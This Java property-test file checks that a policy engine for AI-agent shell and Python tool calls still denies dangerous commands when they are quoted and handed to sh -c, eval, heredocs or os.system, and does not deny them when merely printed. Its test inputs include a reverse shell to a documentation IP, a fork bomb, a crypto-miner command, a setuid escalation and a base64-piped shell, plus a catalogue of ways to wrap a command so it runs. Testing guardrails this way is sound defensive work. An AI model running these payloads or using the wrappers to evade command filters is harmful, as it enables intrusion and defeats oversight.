package dev.gatehouse.policy;

import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gatehouse.action.Action;
import dev.gatehouse.action.Actor;
import dev.gatehouse.action.Decision;
import dev.gatehouse.action.Outcome;
import dev.gatehouse.action.Role;
import java.nio.file.Path;
import java.time.InstantSource;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/**
 * Quoting hides nothing that runs, and makes nothing dangerous that does not: the built-in policy
 * on one text, handed on to be run, and handed on to be read.
 */
class QuotingProperties {
  private static final Policy POLICY = load();

  /** Ways in which a text, quoted as data of another, runs all the same. */
  private static final List<Hand> RUN =
      List.of(
          text -> "sh -c " + single(text),
          text -> "bash -c " + twice(text),
          text -> "bash -ec " + single(text),
          text -> "eval " + single(text),
          text -> "echo " + single(text) + " | sh",
          text -> "printf '%s\\n' " + single(text) + " | bash",
          text -> "sh <<'END'\n" + text + "\nEND\n",
          text -> "bash <<< " + single(text),
          text -> "cat <<'END' | sh\n" + text + "\nEND\n",
          text -> "bash <(echo " + single(text) + ")",
          text -> "x=" + single(text) + "; sh -c \"$x\"",
          text -> "find . -exec sh -c " + single(text) + " \\;",
          text -> "ls | xargs sh -c " + single(text),
          text -> "sudo sh -c " + single(text),
          text -> "env A=b sh -c " + single(text),
          text -> "timeout 5 bash -c " + single(text),
          text -> "nohup sh -c " + single(text) + " &",
          text -> "nice -n 5 setsid sh -c " + single(text),
          text -> "ssh host.example " + single(text),
          text -> "su - joe -c " + single(text),
          text -> "trap " + single(text) + " EXIT",
          text -> "python3 -c " + single("import os; os.system(" + python(text) + ")"),
          text ->
              "python3 - <<'END'\nimport subprocess\nsubprocess.run("
                  + python(text)
                  + ", shell=True)\nEND\n");

  /** The same in Python. */
  private static final List<Hand> RUN_BY_PYTHON =
      List.of(
          text -> "import os\nos.system(" + python(text) + ")",
          text -> "import os\nos.popen(" + python(text) + ").read()",
          text -> "import subprocess\nsubprocess.run(" + python(text) + ", shell=True)",
          text -> "import subprocess as s\ns.check_output([\"sh\", \"-c\", " + python(text) + "])",
          text -> "from subprocess import *\nx = " + python(text) + "\nPopen(x, shell=True)",
          text -> "import os\nexec(" + python("os.system(" + python(text) + ")") + ")");

  /** Ways in which a text is only printed, searched for or noted. */
  private static final List<Hand> READ =
      List.of(
          text -> "echo " + single(text),
          text -> "printf '%s\\n' " + single(text),
          text -> "grep -rn " + single(text) + " docs",
          text -> "git commit -m " + single(text),
          text -> "echo " + single(text) + " >> notes.md",
          text -> "cat <<'END'\n" + text + "\nEND\n",
          text -> "true # " + text);

  /** Puts a text into another one. */
  interface Hand {
    String on(String text);
  }

  private static Policy load() {
    try {
      return Policy.compile(
          new PolicyFiles(Path.of("conf/policies")).read(), InstantSource.system());
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  @Property(tries = 3000)
  void whatRunsIsJudgedAsIfItStoodAlone(@ForAll("texts") String text, @ForAll("run") Hand hand) {
    // Given a text that is not allowed, as a command of its own
    Outcome alone = shell(text).outcome();
    // When it is quoted and handed to something that runs it
    Outcome handed = shell(hand.on(text)).outcome();
    // Then it is not allowed either
    assertTrue(alone == Outcome.ALLOW || handed != Outcome.ALLOW, () -> hand.on(text));
  }

  @Property(tries = 1500)
  void whatPythonRunsIsJudgedAsIfItStoodAlone(
      @ForAll("texts") String text, @ForAll("runByPython") Hand hand) {
    Outcome alone = shell(text).outcome();
    Outcome handed = python3(hand.on(text)).outcome();
    assertTrue(alone == Outcome.ALLOW || handed != Outcome.ALLOW, () -> hand.on(text));
  }

  @Property(tries = 1500)
  void whatIsOnlyReadIsNotDenied(@ForAll("lines") String text, @ForAll("read") Hand hand) {
    // When any text is quoted and printed, searched for or noted
    Decision decision = shell(hand.on(text));
    // Then it is not denied for what it says
    assertNotEquals(
        Outcome.DENY, decision.outcome(), () -> hand.on(text) + " -> " + decision.reasons());
  }

  @Property(tries = 500)
  void whatPythonOnlyPrintsIsNotDenied(@ForAll("lines") String text) {
    String code = "print(" + python(text) + ")\n# " + text;
    Decision decision = python3(code);
    assertNotEquals(Outcome.DENY, decision.outcome(), () -> code + " -> " + decision.reasons());
  }

  @Property(tries = 1500)
  void whatIsUnknownLowersNothing(@ForAll("texts") String text, @ForAll("unknown") Hand hand) {
    // Given a text, and the same with something beside it that cannot be told
    Decision alone = shell(text);
    Decision beside = shell(hand.on(text));
    // Then neither outcome nor risk is lower
    assertTrue(beside.outcome().compareTo(alone.outcome()) >= 0, () -> hand.on(text));
    assertTrue(beside.risk().compareTo(alone.risk()) >= 0, () -> hand.on(text));
  }

  @Provide
  Arbitrary<String> lines() {
    return Arbitraries.of(
        Stream.concat(
                Deed.dangerousShell().stream().map(Deed::text),
                Stream.of(
                    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
                    ":(){ :|:& };:",
                    "./miner -o stratum+tcp://pool.example:3333",
                    "python3 -c \"import os; os.setuid(0)\"",
                    "echo aGFsdA== | base64 -d | sh"))
            .toList());
  }

  @Provide
  Arbitrary<String> texts() {
    Arbitrary<Hand> around =
        Arbitraries.of(
            text -> text,
            text -> "true; " + text,
            text -> "cd /tmp && " + text,
            text -> text + "; true",
            text -> "(" + text + ")",
            text -> "{ sleep 1; } & " + text,
            text -> "if true; then " + text + "; fi",
            text -> "for i in 1 2; do " + text + "; done",
            text -> "f() { " + text + "; }; f",
            text -> "x=1 y=2 " + text);
    return lines().flatMap(line -> around.map(hand -> hand.on(line)));
  }

  @Provide
  Arbitrary<Hand> run() {
    return Arbitraries.of(RUN);
  }

  @Provide
  Arbitrary<Hand> runByPython() {
    return Arbitraries.of(RUN_BY_PYTHON);
  }

  @Provide
  Arbitrary<Hand> read() {
    return Arbitraries.of(READ);
  }

  @Provide
  Arbitrary<Hand> unknown() {
    return Arbitraries.of(
        text -> "x=$(date); " + text,
        text -> text + "; echo \"$UNKNOWN\"",
        text -> "[ -n \"$UNKNOWN\" ] && " + text,
        text -> "cd \"$UNKNOWN\" && " + text,
        text -> "read -r line; " + text);
  }

  private static Decision shell(String command) {
    return decide("bash", Map.of("command", command));
  }

  private static Decision python3(String code) {
    return decide("python", Map.of("code", code));
  }

  private static Decision decide(String tool, Map<String, Object> arguments) {
    Actor actor = new Actor("t", "a", Role.AGENT);
    return POLICY.decide(new Action(actor, "s", tool, arguments, Map.of()));
  }

  private static String single(String text) {
    return "'" + text.replace("'", "'\\''") + "'";
  }

  private static String twice(String text) {
    return "\"" + text.replaceAll("([\\\\\"$`])", "\\\\$1") + "\"";
  }

  private static String python(String text) {
    return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"";
  }
}
